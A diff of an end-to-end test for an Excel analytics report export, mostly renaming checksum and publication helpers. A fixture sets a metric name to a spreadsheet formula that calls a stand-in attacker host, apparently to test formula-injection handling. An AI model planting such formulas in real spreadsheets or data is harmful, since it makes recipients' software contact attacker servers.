@@ -2,8 +2,8 @@ import ExcelJS from 'exceljs'
 import { expect, it } from 'vitest'
 import { makeAnalyticsWorld, namesOf, numberOf } from '@/e2e/support/analytics-world'
 import { signedIn } from '@/e2e/support/api'
-import { contents, differences } from '@/e2e/support/postgres/table-checksums'
-import { publishAfresh } from '@/e2e/support/publications'
+import { differences, tableChecksums } from '@/e2e/support/postgres/table-checksums'
+import { republishAll } from '@/e2e/support/publications'
 import { METHOD_VERSION } from '@/lib/calc/method-version'
 import { roundTo } from '@/lib/calc/rounding'
 import { companyScope } from '@/lib/core/auth/scope'
@@ -20,7 +20,7 @@ await db().metric.update({
   data: { name: '=WEBSERVICE("http://evil.example/")', description: '<p>@сумма &lt;1&gt;</p><p>+7</p>' },
 })
 await db().metricCategory.update({ where: { id: world.categoryId }, data: { name: '-Категория' } })
-await publishAfresh()
+await republishAll()
 
 const query = (text: Record<string, string>) => reportExportQuerySchema.parse(text)
 
@@ -83,7 +83,7 @@ const TOO_FEW = 'мало организаций'
 
 it('is a download with its name in Russian, and leaves an audit row', async () => {
   const client = await signedIn(world.managers[3] ?? 0)
-  const before = await contents()
+  const before = await tableChecksums()
   const answer = await client.get(
     '/api/analytics-report-data/export?year_from=2025&year_to=2026&company_types=1',
   )
@@ -106,7 +106,7 @@ it('is a download with its name in Russian, and leaves an audit row', async () =
     after: { years: [2025, 2026], organisations: 24, filters: { company_types: [1], is_emergency: null } },
   })
   // X3: the call writes nothing but its audit row.
-  expect(differences(before, await contents())).toEqual(['table public.audit_events'])
+  expect(differences(before, await tableChecksums())).toEqual(['table public.audit_events'])
 })
 
 it('the first sheet: conditions, number of organisations, moment, method', async () => {
@@ -228,7 +228,7 @@ it('a period that is not published has no number of organisations rather than fe
   expect(new Set(later)).toEqual(new Set([null]))
   await db().$executeRaw`DELETE FROM publications`
   const { workbook: first } = await workbookOf(3)
-  await publishAfresh()
+  await republishAll()
   const told = valuesOf(sheetOf(first, 'Условия')).find(([label]) => label === 'Организаций в группе (N)')
   expect(told?.[1]).toBe('выпуска ещё не было')
   expect(JSON.stringify(valuesOf(sheetOf(first, 'Отчёт')))).not.toContain(FEW)
